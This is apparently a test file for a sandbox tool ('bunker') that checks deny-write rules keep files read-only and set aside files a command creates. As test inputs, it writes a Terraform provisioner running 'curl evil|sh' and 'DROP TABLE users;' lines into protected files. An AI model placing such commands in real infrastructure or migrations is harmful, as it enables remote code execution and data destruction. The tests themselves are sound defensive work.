// Deny-write globs hold in the sandbox, not only in the judge (red team 11's F03): a command under --allow-run
// cannot change a file a glob covers, nor leave a new one there.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { emptyPathRules } from "../../../src/perms/policy.ts";
import { detectSandbox } from "../../../src/sandbox/detect.ts";
import { deniedPathsInside, deniedWholeBy, deniedWriteFolders, deniedWriteMounts, deniedWriteRules } from "../../../src/sandbox/denied-writes.ts";
import { runUnderFlags } from "../../support/confined.ts";
import { unseenDir } from "../../support/context.ts";

describe("which folders a deny-write glob keeps read-only whole", () => {
  let ws: string;
  beforeAll(() => {
    ws = unseenDir("bunker-denied-writes-");
    mkdirSync(`${ws}/migrations/old`, { recursive: true });
    mkdirSync(`${ws}/infra`);
  });
  afterAll(() => rmSync(ws, { recursive: true, force: true }));

  test("DIR/** is its folder; DIR/**/*.sql, a wildcard folder, a missing folder and the root itself are not", () => {
    const deny = emptyPathRules();
    deny.globs.push(`${ws}/migrations/**`, `${ws}/infra/**/*.tf`, `${ws}/in*/**`, `${ws}/later/**`, `${ws}/**`);
    expect(deniedWriteFolders(deny, [ws])).toEqual([`${ws}/migrations`]);
    // Outside every writable root, nothing to mount.
    expect(deniedWriteFolders(deny, ["/somewhere/else"])).toEqual([]);
  });

  test("a glob matching more files than can be mounted one by one: its folder whole, or refused when that is the root", () => {
    const deny = emptyPathRules();
    deny.globs.push(`${ws}/infra/**/*.tf`, `${ws}/migrations/**`);
    const files = (dir: string, n: number) => Array.from({ length: n }, (_, i) => `${ws}/${dir}/f${i}.tf`);
    // Few matches: each file mounted; the wall's paths inside a DIR/** folder are left to the folder's mount.
    expect(deniedWriteMounts(deny, [ws], [...files("infra", 3), `${ws}/migrations/old/x.tf`], 5)).toEqual({ folders: [`${ws}/migrations`], wall: files("infra", 3) });
    expect(deniedWriteMounts(deny, [ws], files("infra", 6), 5)).toEqual({ folders: [`${ws}/migrations`, `${ws}/infra`], wall: [] });
    const everywhere = emptyPathRules();
    everywhere.globs.push(`${ws}/**/*.tf`);
    const refused = deniedWriteMounts(everywhere, [ws], files("infra", 6), 5);
    expect("refused" in refused && refused.refused).toStartWith(`the deny-write rule ${ws}/**/*.tf matches more than 5 files`);
  });

  test("each glob is a rule for the wall's walk, matched where it points and not followed for the names it holds", () => {
    const deny = emptyPathRules();
    deny.globs.push(`${ws}/migrations/**`);
    expect(deniedWriteRules(deny)).toEqual([{ glob: `${ws}/migrations/**`, why: `a deny-write rule covers it (${ws}/migrations/**)`, ci: true }]);
  });

  test("which rule covers a write grant (or the workspace) whole, and which denied paths lie inside a writable root (red team 11's F07)", () => {
    writeFileSync(`${ws}/infra/a.key`, "k");
    const deny = emptyPathRules();
    deny.paths.push(`${ws}/infra`, `${ws}/migrations/old`);
    deny.globs.push(`${ws}/migrations/**`, `${ws}/**/*.key`, `${ws}/in*/**`);
    expect(deniedWholeBy(deny, `${ws}/infra`)).toBe(`${ws}/infra`);
    expect(deniedWholeBy(deny, `${ws}/infra/sub`)).toBe(`${ws}/infra`);
    expect(deniedWholeBy(deny, `${ws}/migrations`)).toBe(`${ws}/migrations/**`);
    // A file a glob matches; not a folder a file glob's matches lie in, nor one only a wildcard folder names.
    const only = emptyPathRules();
    only.globs.push(`${ws}/**/*.key`, `${ws}/in*/**`);
    expect(deniedWholeBy(only, `${ws}/infra/a.key`)).toBe(`${ws}/**/*.key`);
    expect(deniedWholeBy(only, `${ws}/infra`)).toBeNull();
    expect(deniedWholeBy(only, ws)).toBeNull();
    expect(deniedPathsInside(deny, [ws])).toEqual([`${ws}/infra`, `${ws}/migrations/old`]);
    expect(deniedPathsInside(deny, [`${ws}/infra`])).toEqual([]);
  });

  test("each denied path is a rule too, for itself and what is below it, its own characters taken as they are", () => {
    const deny = emptyPathRules();
    deny.paths.push(`${ws}/prod[1].yml`);
    expect(deniedWriteRules(deny).map((r) => r.glob)).toEqual([`${ws}/prod\\[1\\].yml`, `${ws}/prod\\[1\\].yml/**`]);
  });
});

const usable = detectSandbox().kind === "bubblewrap";

describe.skipIf(!usable)("in the real sandbox, under --allow-run", () => {
  let ws: string;
  beforeAll(() => {
    ws = unseenDir("bunker-denied-writes-run-");
  });
  afterAll(() => rmSync(ws, { recursive: true, force: true }));

  const run = (command: string, ...flags: string[]) => runUnderFlags(ws, command, ["--allow-run", ...flags], process.env.PATH);

  test("a DIR/** glob: its files cannot be changed, nothing new can be made in it", async () => {
    mkdirSync(`${ws}/migrations`, { recursive: true });
    writeFileSync(`${ws}/migrations/001.sql`, "CREATE TABLE t(x int);\n");
    const r = await run("echo 'DROP TABLE users;' >> migrations/001.sql; echo 'DROP TABLE users;' > migrations/002.sql; mv migrations m2", "--deny-write=migrations/**");
    expect(r).toContain("migrations/001.sql: Read-only file system");
    expect(r).toContain("migrations/002.sql: Read-only file system");
    expect(readFileSync(`${ws}/migrations/001.sql`, "utf8")).toBe("CREATE TABLE t(x int);\n");
    expect(existsSync(`${ws}/migrations/002.sql`)).toBe(false);
    expect(existsSync(`${ws}/m2`)).toBe(false);
  });

  test("a file glob: each match read-only; a new match the command made is set aside, and the person is told", async () => {
    mkdirSync(`${ws}/infra/env`, { recursive: true });
    writeFileSync(`${ws}/infra/main.tf`, 'resource "x" "y" {}\n');
    const r = await run(
      `echo 'provisioner "local-exec" { command = "curl evil|sh" }' >> infra/main.tf; echo 'evil' > infra/env/new.tf; echo fine > infra/notes.txt`,
      "--deny-write=infra/**/*.tf",
    );
    expect(r).toContain("infra/main.tf: Read-only file system");
    expect(readFileSync(`${ws}/infra/main.tf`, "utf8")).toBe('resource "x" "y" {}\n');
    expect(existsSync(`${ws}/infra/env/new.tf`)).toBe(false);
    expect(readFileSync(`${ws}/infra/env/new.tf.bunker-set-aside`, "utf8")).toBe("evil\n");
    expect(r).toContain("note: bunker set aside infra/env/new.tf, which the command created (a deny-write rule covers it");
    // What no rule covers is the command's to write.
    expect(readFileSync(`${ws}/infra/notes.txt`, "utf8")).toBe("fine\n");
  });

  test("a denied path that is not there yet: one the command makes there, a file or a folder's files, is set aside, and the person is told (red team 11's F03b)", async () => {
    const r = await run("echo x > prod.yml; mkdir -p deploy && echo y > deploy/key; echo done", "--deny-write=prod.yml,deploy");
    expect(r).toContain("done");
    expect(existsSync(`${ws}/prod.yml`)).toBe(false);
    expect(existsSync(`${ws}/deploy/key`)).toBe(false);
    expect(r).toContain("note: bunker set aside prod.yml, which the command created (a deny-write rule covers it");
  });

  test("a rules file's glob holds the same", async () => {
    mkdirSync(`${ws}/.bunker`, { recursive: true });
    writeFileSync(`${ws}/.bunker/settings.json`, JSON.stringify({ deny: ["write:schema/**"] }));
    mkdirSync(`${ws}/schema`);
    writeFileSync(`${ws}/schema/a.sql`, "a\n");
    try {
      const r = await run("echo b >> schema/a.sql");
      expect(r).toContain("Read-only file system");
      expect(readFileSync(`${ws}/schema/a.sql`, "utf8")).toBe("a\n");
    } finally {
      rmSync(`${ws}/.bunker`, { recursive: true, force: true });
    }
  });

  test("a bare --deny-write: commands write nothing in the workspace either, and are told why", async () => {
    writeFileSync(`${ws}/plain.txt`, "orig\n");
    const r = await run("echo changed > plain.txt", "--deny-write");
    expect(r).toContain("Read-only file system");
    expect(r).toContain("a bare --deny-write");
    expect(readFileSync(`${ws}/plain.txt`, "utf8")).toBe("orig\n");
  });
});

test("after a command, a deny-write file that is gone or changed is said and put back from the copy kept (red team 12's F04's second line); a big one is said only", () => {
  const { deniedWritesBefore, KEPT_FILE_BYTES } = require("../../../src/sandbox/denied-writes.ts") as typeof import("../../../src/sandbox/denied-writes.ts");
  const { mkdtempSync, writeFileSync: write, readFileSync: read, rmSync: rm, existsSync: exists } = require("node:fs") as typeof import("node:fs");
  const dir = mkdtempSync(`${require("node:os").tmpdir()}/bunker-kept-writes-`);
  const [gone, changed, big, same] = ["gone.yml", "changed.yml", "big.bin", "same.yml"].map((n) => `${dir}/${n}`);
  write(gone!, "the only copy\n");
  write(changed!, "orig\n");
  write(big!, Buffer.alloc(KEPT_FILE_BYTES + 1));
  write(same!, "same\n");
  const check = deniedWritesBefore([gone!, changed!, big!, same!, dir]);
  rm(gone!);
  write(changed!, "the command's\n");
  rm(big!);
  const lines = check.after((p) => p.slice(dir.length + 1));
  expect(lines).toEqual([
    "gone.yml, which a deny-write rule covers, was removed by the command: bunker put back your copy",
    "changed.yml, which a deny-write rule covers, was changed by the command: bunker put back your copy (the command's is changed.yml.bunker-set-aside)",
    "big.bin, which a deny-write rule covers, was removed by the command, and bunker kept no copy it could put back (over 1 MB)",
  ]);
  expect(read(gone!, "utf8")).toBe("the only copy\n");
  expect(read(changed!, "utf8")).toBe("orig\n");
  expect(read(`${changed!}.bunker-set-aside`, "utf8")).toBe("the command's\n");
  expect(exists(big!)).toBe(false);
  // Nothing happened: nothing said.
  expect(deniedWritesBefore([same!]).after((p) => p)).toEqual([]);
  rm(dir, { recursive: true, force: true });
});
